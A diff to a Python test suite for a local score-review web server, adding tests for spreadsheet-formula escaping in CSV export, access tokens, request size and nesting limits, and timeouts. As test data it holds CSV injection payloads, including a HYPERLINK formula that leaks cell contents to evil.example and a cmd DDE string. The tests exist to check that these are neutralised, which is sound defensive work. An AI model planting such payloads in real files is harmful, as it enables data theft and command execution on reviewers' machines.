@@ -6,13 +6,18 @@ import csv
 import http.client
 import json
 import logging
+import os
+import re
+import signal
 import socket
 import sqlite3
 import threading
 import urllib.error
+import urllib.parse
 import urllib.request
 from dataclasses import replace
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 from typer.testing import CliRunner
@@ -33,7 +38,7 @@ from sirtreg.review import (
 from sirtreg.review import landmarks as landmarks_module
 from sirtreg.review import server as server_module
 from sirtreg.review.page import review_page
-from sirtreg.review.store import MAX_COMMENT_CHARS, MAX_REVIEWER_CHARS, MAX_SCORES_PER_SUBMISSION
+from sirtreg.review.store import FORMULA_STARTS, MAX_COMMENT_CHARS, MAX_REVIEWER_CHARS, MAX_SCORES_PER_SUBMISSION
 
 ITEMS = frozenset({ReviewItem("ct", "landmark", "landmark 1"), ReviewItem("ct", "lesion", "lesion 1")})
 CHECKED = " checked title="  # a radio button shown chosen
@@ -194,11 +199,32 @@ def test_export_writes_csv_and_refuses_an_existing_file(tmp_path):
     assert export_csv(ScoreStore(tmp_path / "none.sqlite"), tmp_path / "empty.csv")[1] == 0
 
 
+def test_export_escapes_cells_a_spreadsheet_would_run(tmp_path):
+    store = ScoreStore(tmp_path / "review.sqlite")
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    store.save([Score("ct", "lesion", "lesion 1", "@SUM(1+1)", 2, link),
+                Score("ct", "lesion", "lesion 1", "+cmd|' /C calc'!A0", 3, "-2 mm cranial"),
+                Score("=ct", "landmark", "\tclip", "Dr A", 5, "\r=1+1"),
+                Score("ct", "landmark", "landmark 1", "Dr B", 1, "fine = good")], now=T0)
+    path, count = export_csv(store, tmp_path / "scores.csv")
+    text = path.read_text(encoding="utf-8")
+    assert count == 4 and "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and "'+cmd|" in text
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]  # nothing a spreadsheet would run
+    by_reviewer = {row[3]: row for row in rows[1:]}
+    assert by_reviewer["'@SUM(1+1)"][5] == "'" + link and by_reviewer["'+cmd|' /C calc'!A0"][5] == "'-2 mm cranial"
+    assert by_reviewer["Dr A"][:3] == ["'=ct", "landmark", "'\tclip"] and by_reviewer["Dr A"][5] == "'\r=1+1"
+    assert by_reviewer["Dr B"][4:6] == ["1", "fine = good"]  # numbers and harmless texts unchanged
+    assert [row[4] for row in rows[1:]] == ["5", "1", "3", "2"] and ",2,'=HYPERLINK(" in text.replace('"', "")
+
+
 # --- the page -----------------------------------------------------------------------------------
 def test_page_is_the_report_with_the_panel(run_folder):
     folder = read_review_folder(run_folder)
     saved = {ReviewItem("mr", "lesion", "lesion 2"): Score("mr", "lesion", "lesion 2", "A", 3, "<edge>", "2024-05-01")}
-    page = review_page(folder, nonce="n0nce", reviewer='A "x"', saved=saved)
+    page = review_page(folder, nonce="n0nce", token="t0ken", reviewer='A "x"', saved=saved)
     report = (run_folder / "report.html").read_text()
     head, body = report.index("</head>"), report.rindex("</body>")
     assert report[head:body] in page  # the report's content unchanged
@@ -207,6 +233,7 @@ def test_page_is_the_report_with_the_panel(run_folder):
     assert 'value="A &quot;x&quot;"' in page and 'value="&lt;edge&gt;"' in page
     assert page.count(CHECKED) == 1 and f'value="3"{CHECKED}' in page
     assert '<script nonce="n0nce">' in page and page.count("<script") == 1
+    assert 'data-token="t0ken"' in page and "X-Sirtreg-Token" in page  # the script sends the token
     assert "Near perfect alignment" in page and "<script" not in report  # the report itself has no script
 
 
@@ -223,16 +250,26 @@ def served(run_folder):
     thread.join(5)
 
 
-def _get(server, path: str) -> tuple[int, dict, bytes]:
-    with urllib.request.urlopen(server.url.rstrip("/") + path, timeout=10) as response:
+def _url(server, path: str, token: str | None = ...) -> str:
+    """The address of ``path`` on ``server`` with ``token`` in the query (the server's own by default)."""
+    url = f"http://127.0.0.1:{server.port}{path}"
+    token = server.token if token is ... else token
+    return url if token is None else f"{url}{'&' if '?' in path else '?'}token={token}"
+
+
+def _get(server, path: str, token: str | None = ...) -> tuple[int, dict, bytes]:
+    with urllib.request.urlopen(_url(server, path, token), timeout=10) as response:
         return response.status, dict(response.headers), response.read()
 
 
 def _post(server, document, *, path: str = "/api/scores", headers: dict | None = None,
-          body: bytes | None = None) -> tuple[int, dict]:
+          body: bytes | None = None, token: str | None = ...) -> tuple[int, dict]:
+    """POST as the page does: the token (the server's own by default) in the X-Sirtreg-Token header."""
     data = body if body is not None else json.dumps(document).encode()
-    request = urllib.request.Request(server.url.rstrip("/") + path, data=data, method="POST",
-                                     headers={"Content-Type": "application/json", **(headers or {})})
+    token = server.token if token is ... else token
+    sent = {"Content-Type": "application/json", **({} if token is None else {"X-Sirtreg-Token": token})}
+    request = urllib.request.Request(_url(server, path, None), data=data, method="POST",
+                                     headers={**sent, **(headers or {})})
     try:
         with urllib.request.urlopen(request, timeout=10) as response:
             return response.status, json.loads(response.read())
@@ -242,9 +279,11 @@ def _post(server, document, *, path: str = "/api/scores", headers: dict | None =
 
 def test_server_serves_the_page_and_stores_posted_scores(served, run_folder):
     report = (run_folder / "report.html").read_bytes()
-    assert served.url.startswith("http://127.0.0.1:") and served.server_address[0] == "127.0.0.1"
+    assert served.url == f"http://127.0.0.1:{served.port}/?token={served.token}" and len(served.token) >= 43
+    assert served.server_address[0] == "127.0.0.1"
     status, headers, page = _get(served, "/")
     assert status == 200 and headers["Content-Type"].startswith("text/html")
+    assert f'data-token="{served.token}"'.encode() in page
     assert "script-src 'nonce-" in headers["Content-Security-Policy"] and b'id="review-form"' in page
     assert b'value="Dr A"' in page and CHECKED.encode() not in page
     assert json.loads(_get(served, "/api/scores")[2]) == {"scores": []}
@@ -285,19 +324,68 @@ def test_server_refuses_bad_posts(served, request_kwargs, status, message):
     assert served.store.scores() == []
 
 
-def test_server_refuses_bodies_without_or_over_the_size_limit(served):
-    for length in (None, "0", str(server_module.MAX_BODY_BYTES + 1), "many"):
-        connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=10)
+def _raw_post(server, length: str | None, body: bytes = b"") -> tuple[int, str]:
+    """POST ``body`` with the token and a Content-Length header of ``length`` (none if None); (status, error)."""
+    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
+    try:
         connection.putrequest("POST", "/api/scores")
         connection.putheader("Content-Type", "application/json")
+        connection.putheader("X-Sirtreg-Token", server.token)
         if length is not None:
             connection.putheader("Content-Length", length)
-        connection.endheaders()
+        connection.endheaders(body or None)
         response = connection.getresponse()
-        error = json.loads(response.read())["error"]
+        return response.status, json.loads(response.read())["error"]
+    finally:
         connection.close()
-        assert response.status == 400 and ("Content-Length" in error or "the body must hold" in error), length
+
+
+def test_server_refuses_bodies_without_or_over_the_size_limit(served):
+    assert server_module.MAX_BODY_BYTES == 1024 * 1024
+    for length, status in ((None, 400), ("0", 400), ("-5", 400), ("many", 400),
+                           (str(server_module.MAX_BODY_BYTES + 1), 413), ("99999999999999999999", 413)):
+        answer = _raw_post(served, length)
+        assert answer[0] == status and ("Content-Length" in answer[1] or "the body must hold" in answer[1]), length
+    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as short:  # the client stops early
+        short.sendall(f"POST /api/scores HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nX-Sirtreg-Token: "
+                      f"{served.token}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{".encode())
+        short.shutdown(socket.SHUT_WR)
+        answer = short.makefile("rb").read()
+    assert answer.startswith(b"HTTP/1.0 400") and b"the body ended after 1 of 100 bytes" in answer
     assert served.store.scores() == []
+
+
+@pytest.mark.parametrize("body", [
+    b"[" * 100_000, b'{"a": ' * 100_000, b"[" * 33 + b"]" * 33,
+    b'{"reviewer": "A", "scores": [], "x": ' + b"[" * 32 + b"]" * 32 + b"}",  # 33 levels with the object
+])
+def test_server_refuses_deeply_nested_json_and_goes_on(served, body):
+    status, answer = _post(served, None, body=body)
+    assert status == 400 and "nested deeper than 32 levels" in answer["error"]
+    status, answer = _post(served, {"reviewer": "[[[[" * 20, "scores": [_score(comment="{{{{" * 20)]})
+    assert status == 200 and answer["changed"] == 1  # brackets in strings do not count; the server goes on
+
+
+def test_json_depth_counts_brackets_outside_strings():
+    texts = {"1": 0, "[]": 1, '{"a": [1, {"b": []}]}': 4, '["[[[", "{{"]': 1, r'["\"[[", "\\", "]]"]': 1,
+             "]]][[": 2, "[" * 100_000: 100_000, "[" * 32 + "]" * 32: 32}
+    assert {text: server_module.json_depth(text) for text in texts} == texts
+    assert server_module.MAX_JSON_DEPTH == 32  # 32 levels pass the check, and are parsed: no submission
+    with pytest.raises(InputError, match="must be a JSON object"):
+        parse_scores(json.loads("[" * 32 + "]" * 32), ITEMS)
+
+
+def test_server_gives_up_on_slow_clients(served, monkeypatch):
+    monkeypatch.setattr(server_module._Handler, "timeout", 0.3)
+    assert server_module.REQUEST_TIMEOUT_S == 10 and served.RequestHandlerClass.timeout == 0.3
+    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as slow:  # headers, half a body
+        slow.sendall(f"POST /api/scores HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nContent-Type: application/json\r\n"
+                     f"X-Sirtreg-Token: {served.token}\r\nContent-Length: 100\r\n\r\n{{".encode())
+        answer = slow.makefile("rb").read()
+    assert answer.startswith(b"HTTP/1.0 408") and b"did not arrive within 0.3 s" in answer
+    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as silent:  # not even a request line
+        assert silent.recv(100) == b""  # closed without an answer
+    assert _post(served, {"reviewer": "A", "scores": [_score()]})[0] == 200
 
 
 def test_server_answers_500_when_the_store_breaks_while_serving(served, run_folder):
@@ -316,6 +404,106 @@ def test_server_refuses_unknown_pages_foreign_hosts_and_bad_names(served):
     with pytest.raises(urllib.error.HTTPError) as caught:
         urllib.request.urlopen(request, timeout=10)
     assert caught.value.code == 403
+
+
+def _refused(call) -> tuple[int, bytes]:
+    """The status and body of a refused urllib request."""
+    with pytest.raises(urllib.error.HTTPError) as caught:
+        call()
+    return caught.value.code, caught.value.read()
+
+
+def test_server_answers_nothing_without_the_token(served):
+    assert _post(served, {"reviewer": "Dr A", "scores": [_score(comment="secret remark")]})[0] == 200
+    right = served.token
+    wrong = ("x" if right[0] != "x" else "y") + right[1:]
+    for token in (None, "", wrong, right[:-1], right + "x", "é" * 43):
+        for path in ("/", "/index.html", "/api/scores", "/api/scores?reviewer=Dr%20A", "/report.png"):
+            status, body = _refused(lambda: _get(served, path, token=None if token is None else
+                                                 urllib.parse.quote(token)))
+            assert status == 403 and b"no or wrong token" in body and len(body) < 200, (token, path)
+            assert b"secret" not in body and b"review-form" not in body and b"Dr A" not in body
+        status, answer = _post(served, {"reviewer": "Dr B", "scores": [_score(2)]}, token=token)
+        assert status == 403 and "no or wrong token" in answer["error"], token
+    request = urllib.request.Request(_url(served, "/", None), headers={"X-Sirtreg-Token": wrong})
+    assert _refused(lambda: urllib.request.urlopen(request, timeout=10))[0] == 403
+    request = urllib.request.Request(_url(served, "/"), headers={"X-Sirtreg-Token": wrong})  # one right, one wrong
+    assert _refused(lambda: urllib.request.urlopen(request, timeout=10))[0] == 403
+    assert _refused(lambda: _get(served, f"/?token={right}&token={wrong}", token=None))[0] == 403
+    assert [(s.reviewer, s.score) for s in served.store.scores()] == [("Dr A", 4)]  # nothing saved without it
+
+    request = urllib.request.Request(_url(served, "/api/scores", None), headers={"X-Sirtreg-Token": right})
+    with urllib.request.urlopen(request, timeout=10) as response:  # the token in the header, as the page sends it
+        assert response.status == 200 and json.loads(response.read())["scores"][0]["comment"] == "secret remark"
+    assert _get(served, "/")[0] == 200 and _post(served, {"reviewer": "Dr B", "scores": [_score(2)]})[0] == 200
+    assert len(served.store.scores()) == 2
+
+
+def test_servers_have_tokens_of_their_own(run_folder):
+    first, second = make_server(run_folder), make_server(run_folder)
+    try:
+        assert first.token != second.token and first.token in first.url and second.token not in first.url
+        assert first.knows([first.token]) and not first.knows([second.token]) and not first.knows([])
+    finally:
+        first.server_close()
+        second.server_close()
+
+
+def _as_nobody(port: int, requests: list[tuple[str, str, dict]]) -> list[int] | str:
+    """The statuses of ``requests`` (method, path, headers) made by the user nobody, or why that cannot be.
+
+    Forks; the child drops root's privileges to nobody (uid and groups) and makes the requests with its own
+    sockets, as another user of this computer would.
+    """
+    import pwd
+
+    if not hasattr(os, "fork") or os.geteuid() != 0:
+        return "another local user needs root here to drop privileges (os.setuid); not root"
+    try:
+        nobody = pwd.getpwnam("nobody")
+    except KeyError:
+        return "there is no user nobody to become"
+    reading, writing = os.pipe()
+    child = os.fork()
+    if child == 0:  # the child: never returns
+        try:
+            signal.alarm(30)
+            os.close(reading)
+            os.setgroups([])
+            os.setgid(nobody.pw_gid)
+            os.setuid(nobody.pw_uid)
+            assert os.getuid() == os.geteuid() == nobody.pw_uid != 0
+            statuses = []
+            for method, path, headers in requests:
+                connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+                body = b'{"reviewer": "Mallory", "scores": []}' if method == "POST" else None
+                connection.request(method, path, body=body, headers=headers)
+                statuses.append(connection.getresponse().status)
+                connection.close()
+            os.write(writing, json.dumps(statuses).encode())
+        except BaseException as exc:  # noqa: BLE001 - reported to the parent
+            os.write(writing, json.dumps(f"the child failed: {exc!r}").encode())
+        finally:
+            os._exit(0)
+    os.close(writing)
+    with os.fdopen(reading, "rb") as pipe:
+        answer = json.loads(pipe.read() or b'"no answer"')
+    os.waitpid(child, 0)
+    return answer
+
+
+def test_a_second_local_user_without_the_token_is_refused(served):
+    json_type = {"Content-Type": "application/json"}
+    requests = [("GET", "/", {}), ("GET", "/api/scores", {}), ("POST", "/api/scores", json_type),
+                ("GET", f"/?token={served.token}", {})]  # the last: with the token, to show the request arrives
+    statuses = _as_nobody(served.port, requests)
+    if isinstance(statuses, str):
+        if statuses.startswith("the child failed: PermissionError"):
+            pytest.skip(f"privileges cannot be dropped here: {statuses}")
+        assert statuses.startswith(("another local user", "there is no user")), statuses
+        pytest.skip(statuses)
+    assert statuses == [403, 403, 403, 200]
+    assert served.store.scores() == []
 
 
 def test_make_server_refusals(run_folder, tmp_path):
@@ -354,7 +542,14 @@ def test_cli_exports_scores_and_refuses_overwriting(run_folder, tmp_path):
 
 def test_cli_prints_the_address_opens_the_browser_and_stops_on_ctrl_c(run_folder, monkeypatch):
     opened = []
-    monkeypatch.setattr("webbrowser.open", opened.append)
+    launcher_pages = []
+
+    def open_page(address):
+        opened.append(address)
+        page = Path(address.removeprefix("file://"))
+        launcher_pages.append((page, page.read_text(encoding="utf-8"), page.stat().st_mode & 0o777))
+
+    monkeypatch.setattr("webbrowser.open", open_page)
 
     def interrupted(self, poll_interval=0.5):
         raise KeyboardInterrupt
@@ -363,6 +558,11 @@ def test_cli_prints_the_address_opens_the_browser_and_stops_on_ctrl_c(run_folder
     result = CliRunner().invoke(app, ["review", str(run_folder), "--reviewer", "Dr A"])
     assert result.exit_code == 0, result.output
     assert "http://127.0.0.1:" in result.output and "stopped; 0 score(s)" in result.output
-    assert len(opened) == 1 and opened[0].startswith("http://127.0.0.1:")
+    # the browser gets a page only this user can read that leads to the address, so the token never
+    # stands on a command line that other users can list
+    assert len(opened) == 1 and opened[0].startswith("file://")
+    [(page, text, mode)] = launcher_pages
+    address = re.search(r'url=(http://127\.0\.0\.1:\d+/\?token=[\w-]+)"', text).group(1)
+    assert address in result.output and mode == 0o600 and not page.exists()  # removed when the server stops
     result = CliRunner().invoke(app, ["review", str(run_folder), "--no-browser", "--port", "70000"])
     assert result.exit_code == 2 and "port must be" in result.output and len(opened) == 1
